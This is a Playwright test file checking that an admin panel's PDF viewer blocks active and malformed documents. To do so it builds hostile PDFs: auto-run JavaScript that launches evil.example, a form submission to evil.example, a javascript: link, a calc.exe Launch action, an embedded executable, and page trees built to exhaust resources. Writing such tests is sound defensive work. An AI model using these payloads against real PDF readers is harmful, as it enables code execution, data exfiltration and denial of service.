import type { Page } from '@playwright/test';
import { hangs } from '@buddyline/tests/time-limits';
import {
  activeIn,
  certificatePdf,
  drawingOf,
  drawnPages,
  firstFree,
  frameOf,
  pdfOf,
  serveDocument,
  streamOf,
} from '../support/documents.ts';
import { expect, signedInTest as test } from '../support/test.ts';

async function openDocument(page: Page, bytes: Buffer): Promise<void> {
  await serveDocument(page, bytes);
  await page.goto('/admin/certifications');
  const link = page.getByRole('link', { name: /^View document of / }).first();
  await page.goto((await link.getAttribute('href')) ?? '');
}

const first = firstFree();
const script =
  '<< /S /JavaScript /JS (app.alert\\("ran"\\); app.launchURL\\("https://evil.example"\\)) >>';
const link = (action: string, y: number) =>
  `<< /Type /Annot /Subtype /Link /Rect [60 ${y} 200 ${y + 20}] /A ${action} >>`;

/** Everything that a document can do on its own or at a click. */
const active = certificatePdf({
  catalog:
    `/OpenAction ${script} /AA << /WC ${script} >> /NeedsRendering true ` +
    `/AcroForm << /Fields [${first + 6} 0 R] /XFA ${first} 0 R /CO [${first + 6} 0 R] >> ` +
    `/Names << /JavaScript << /Names [(x) ${script}] >> /EmbeddedFiles << /Names [(a.exe) ${first + 1} 0 R] >> >>`,
  page:
    `/AA << /O ${script} >> ` +
    `/Annots [${[2, 3, 4, 5, 6, 7, 8].map((at) => `${first + at} 0 R`).join(' ')}]`,
  objects: [
    streamOf(
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert("ran")</script></xdp:xdp>',
    ),
    `<< /Type /Filespec /F (a.exe) /EF << /F ${first + 9} 0 R >> >>`,
    link('<< /S /URI /URI (https://agency.example/verify) >>', 100),
    link('<< /S /URI /URI (javascript:alert\\(1\\)) >>', 140),
    link('<< /S /Launch /F (calc.exe) >>', 180),
    link('<< /S /SubmitForm /F (https://evil.example/form) >>', 220),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) /Rect [60 260 200 280] /AA << /F ${script} /C ${script} >> >>`,
    `<< /Type /Annot /Subtype /FileAttachment /Rect [60 300 80 320] /FS ${first + 1} 0 R >>`,
    link(script, 340),
    streamOf('MZ', '/Type /EmbeddedFile'),
  ],
});

test('nothing of a document runs, and no request leaves the panel', async ({ page, baseURL }) => {
  const foreign: string[] = [];
  page.context().on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${baseURL}/`) && !url.startsWith('blob:')) foreign.push(url);
  });
  page.on('dialog', (dialog) => foreign.push(dialog.message()));
  page.on('download', (download) => foreign.push(download.suggestedFilename()));
  await openDocument(page, active);
  const drawn = frameOf(page).getByRole('region', { name: 'Page 1' });
  await expect(drawn).toContainText('Rescue Diver');
  await expect(activeIn(drawn)).toHaveCount(1);
  const opened = drawn.getByRole('link');
  await expect(opened).toHaveAttribute('href', 'https://agency.example/verify');
  await expect(opened).toHaveAttribute('rel', /noopener/);
  await expect(opened).toHaveAttribute('target', '_blank');
  const box = await drawn.boundingBox();
  for (const y of [150, 190, 230, 270, 310, 350]) {
    await drawn.click({
      position: { x: (65 / 595) * (box?.width ?? 0), y: ((842 - y) / 842) * (box?.height ?? 0) },
    });
  }
  await expect(drawn).toContainText('Rescue Diver');
  expect(page.context().pages()).toHaveLength(1);
  expect(foreign).toEqual([]);
});

/** The pages of a document in a chain of so many nodes. */
const nested = (nodes: number) =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...Array.from(
      { length: nodes },
      (_, at) =>
        `<< /Type /Pages /Count 1 /Kids [${at + 3} 0 R] ${at > 0 ? `/Parent ${at + 1} 0 R` : ''} >>`,
    ),
    `<< /Type /Page /Parent ${nodes + 1} 0 R /MediaBox [0 0 200 200] >>`,
  ]);

test('of thousands of pages only a few stay drawn', async ({ page }) => {
  await openDocument(page, certificatePdf({ pages: 5_000 }));
  await expect(page.getByText('Page 1 of 5000')).toBeVisible();
  for (const number of [...Array(13).keys(), 4_999]) {
    const passed = frameOf(page).getByRole('region', { name: `Page ${number + 1}`, exact: true });
    await passed.scrollIntoViewIfNeeded();
    await expect(drawingOf(passed)).toBeVisible();
    await expect(page.getByText(`Page ${number + 1} of 5000`)).toBeVisible();
    expect(await drawnPages(page).count()).toBeLessThanOrEqual(12);
  }
});

test('a page of 200 inches is drawn in a canvas that browsers have, at every zoom', async ({
  page,
}) => {
  await openDocument(page, certificatePdf({ sides: [14_400, 14_400] }));
  await expect(page.getByText('Page 1 of 1', { exact: true })).toBeVisible();
  const percent = page.getByText(/^\d+%$/);
  for (let at = 0; at < 15; at += 1) {
    await page.getByRole('button', { name: 'Zoom in' }).click();
  }
  await expect(percent).toHaveText('500%');
  await expect
    .poll(() => drawnPages(page).evaluate((canvas: HTMLCanvasElement) => canvas.width))
    .toBe(4_096);
});

test.describe('a page tree', () => {
  const trees = {
    'nested ten thousand times': [nested(10_000), 'Page 1 of 1'],
    'that contains itself': [
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']),
      'This document cannot be shown. Download it.',
    ],
    'that claims two billion pages': [
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
      ]),
      'Page 1 of 1',
    ],
  } as const;
  for (const [name, [bytes, words]] of Object.entries(trees)) {
    test(name, async ({ page }) => {
      await openDocument(page, bytes);
      await expect(page.getByText(words, { exact: true })).toBeVisible();
    });
  }
});

test('a page that is never finished is given up, and the panel answers meanwhile', async ({
  page,
}) => {
  test.slow();
  const contents = Buffer.alloc(400_000_000, '0 0 9 9 re f\n');
  await openDocument(page, certificatePdf({ contents }));
  await expect(page.getByTitle(/^Document of /)).toBeAttached();
  await page.getByRole('link', { name: 'Download' }).focus();
  await expect(page.getByRole('link', { name: 'Download' })).toBeFocused();
  await expect(page.getByText('This document cannot be shown. Download it.')).toBeVisible({
    timeout: 2 * hangs.expectationMs,
  });
  await expect(page.getByTitle(/^Document of /)).toBeHidden();
});
